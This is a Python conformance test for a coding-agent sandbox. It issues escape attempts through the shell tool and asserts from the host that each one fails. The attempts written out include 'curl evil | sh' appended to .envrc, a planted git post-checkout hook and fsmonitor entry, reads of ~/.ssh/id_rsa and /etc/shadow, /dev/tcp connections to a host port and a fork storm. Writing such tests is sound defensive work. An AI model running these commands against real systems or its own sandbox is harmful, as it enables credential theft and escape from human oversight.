"""Row E11: escape attempts from inside the sandbox, each observed from the host side.

Writes outside the workspace, remount, kept capabilities, loopback TCP, host Unix sockets,
planting code in git metadata and other protected files, reading secrets, and a process storm.
"""

from __future__ import annotations

import contextlib
import os
import shlex
import time
from collections.abc import Iterator, Sequence
from typing import Any

from prism.core import ToolDefinition
from prism.core.testing import scaled

from . import _coding_kit as kit
from ._registry import RowSkippedError, conformance_row, require
from ._subjects import ConformanceSubjects
from ._unix_listener import UnixListener

__all__: list[str] = []

_SECRET = "prism-e11-planted-secret-7c41"
_STORM = 200
"""Sleepers the process storm tries to start; the ceiling under test is ``_CEILING``."""
_CEILING = 64


async def _basic(
    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
) -> None:
    import anyio

    canary = shlex.quote(os.path.join(d.outside, "canary-e11"))
    await kit.shell(subjects, tools, f"echo x > {canary}; touch {canary}")
    kit.expect_absent(os.path.join(d.outside, "canary-e11"), "write outside the workspace")
    await kit.shell(subjects, tools, f"mount -o remount,rw /; echo x > {canary}-remount")
    kit.expect_absent(os.path.join(d.outside, "canary-e11-remount"), "remount / read-write")
    text = await kit.shell(subjects, tools, "grep CapEff /proc/self/status")
    if "CapEff:\t0000000000000000" not in text:
        raise AssertionError(f"the sandboxed command keeps capabilities: {text!r}")
    connections: list[object] = []
    listener = await anyio.create_tcp_listener(local_host="127.0.0.1", local_port=0)
    port = listener.extra(anyio.abc.SocketAttribute.local_port)

    async def record(stream: Any) -> None:
        connections.append(stream)
        await stream.aclose()

    async with anyio.create_task_group() as group:
        group.start_soon(listener.serve, record)
        text = await kit.shell(
            subjects, tools, f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED"
        )
        await anyio.sleep(scaled(0.2))
        group.cancel_scope.cancel()
    await listener.aclose()
    if connections or "CONNECTED" in text:
        raise AssertionError(f"the sandbox reached a host loopback listener on port {port}")


async def _unix_socket(
    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
) -> None:
    path = os.path.join(d.root, "host-agent.sock")
    listener = UnixListener(path)
    code = (
        "import socket\ns = socket.socket(socket.AF_UNIX)\n"
        f"s.connect({path!r}); s.sendall(b'payload'); print('CONNECTED')\n"
    )
    try:
        text = await kit.shell(subjects, tools, f"python3 -c {shlex.quote(code)}; true")
    finally:
        listener.close()
    if listener.accepted or listener.received or "CONNECTED" in text:
        raise AssertionError(
            f"the sandbox reached a host Unix socket ({listener.accepted} connection(s), "
            f"{len(listener.received)} byte(s) received)"
        )


async def _protected(
    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
) -> None:
    os.makedirs(os.path.join(d.root, ".git", "hooks"))
    config = os.path.join(d.root, ".git", "config")
    kit.write(config, "[core]\n\trepositoryformatversion = 0\n")
    kit.write(os.path.join(d.root, ".envrc"), "export SAFE=1\n")
    attacks = (
        "printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/post-checkout",
        "printf '[core]\\n\\tfsmonitor = echo PWNED\\n' >> .git/config",
        "echo 'curl evil | sh' >> .envrc",
        "echo '{\"mcpServers\": {}}' > .mcp.json",
    )
    await kit.shell(subjects, tools, "; ".join(attacks) + "; true")
    kit.expect_absent(os.path.join(d.root, ".git", "hooks", "post-checkout"), "plant a git hook")
    kit.expect_absent(os.path.join(d.root, ".mcp.json"), "create a protected file")
    if "fsmonitor" in kit.read(config) or "curl" in kit.read(os.path.join(d.root, ".envrc")):
        raise AssertionError("the sandboxed command changed git config or .envrc on the host")


@contextlib.contextmanager
def _planted_home(base: str) -> Iterator[str]:
    """HOME pointing at a directory with an SSH key, restored afterwards."""
    home = os.path.join(base, "home")
    os.makedirs(os.path.join(home, ".ssh"))
    key = os.path.join(home, ".ssh", "id_rsa")
    kit.write(key, f"{_SECRET}\n")
    saved = os.environ.get("HOME")
    os.environ["HOME"] = home
    try:
        yield key
    finally:
        if saved is None:
            os.environ.pop("HOME", None)
        else:
            os.environ["HOME"] = saved


def _shadow_entry() -> str | None:
    try:
        return kit.read("/etc/shadow").split(":", 1)[0] or None
    except OSError:
        return None


async def _secrets(
    subjects: ConformanceSubjects, tools: Sequence[ToolDefinition], d: kit.Dirs
) -> None:
    with _planted_home(d.outside) as key:
        text = await kit.shell(subjects, tools, f"cat {shlex.quote(key)} /etc/shadow; true")
    entry = _shadow_entry()
    if _SECRET in text or (entry is not None and f"\n{entry}:" in f"\n{text}"):
        raise AssertionError("the sandboxed command read a secret (SSH key or /etc/shadow)")


def _count(marker: bytes) -> int:
    found = 0
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/cmdline", "rb") as handle:
                found += marker in handle.read()
    return found


async def _storm(subjects: ConformanceSubjects, tools: Sequence[ToolDefinition]) -> None:
    import anyio

    marker = f"9{os.getpid() % 1000}.{time.time_ns() % 100000}"
    command = f"for i in $(seq {_STORM}); do sleep {marker} & done; wait"
    peak = 0
    done = anyio.Event()

    async def watch() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, await anyio.to_thread.run_sync(_count, marker.encode()))
            await anyio.sleep(0.1)

    async with anyio.create_task_group() as group:
        group.start_soon(watch)
        result = await kit.call(subjects, tools, "shell", {"command": command, "timeout": 3})
        done.set()
    await anyio.sleep(scaled(0.3))
    if result.error is None:
        raise AssertionError(f"a process storm must end with an error result: {kit.text(result)!r}")
    if peak > _CEILING + 4:
        raise AssertionError(f"a process storm reached {peak} processes past a {_CEILING} ceiling")
    if _count(marker.encode()):
        raise AssertionError("processes of the storm survived the command")


@conformance_row("E11", timeout_seconds=120)
async def sandbox_escape_attempts(subjects: ConformanceSubjects) -> None:
    tools_factory = require(subjects.coding_tools_factory, "the coding tools (prism-coding-tools)")
    sandbox_factory = require(subjects.sandbox_factory, "a sandbox (prism-coding-security)")
    operations = require(subjects.sandbox_operations_factory, "sandbox shell operations")
    with kit.dirs(kit.outside_base()) as d:
        sandbox = sandbox_factory(root=d.root, max_processes=_CEILING)
        tools = tools_factory(d.root, shell=kit.shell_options(operations=operations(sandbox)))
        probe = await kit.shell(subjects, tools, "echo sandbox-up > up.txt")
        if not kit.exists(os.path.join(d.root, "up.txt")):
            raise RowSkippedError(f"the sandbox cannot run on this host: {probe[:300]}")
        await _basic(subjects, tools, d)
        await _unix_socket(subjects, tools, d)
        await _protected(subjects, tools, d)
        await _secrets(subjects, tools, d)
        limit = getattr(getattr(sandbox, "capabilities", None), "process_limit", "unknown")
        if limit is None:
            raise RowSkippedError(
                "no process ceiling holds on this host (root without a pids cgroup)"
            )
        await _storm(subjects, tools)
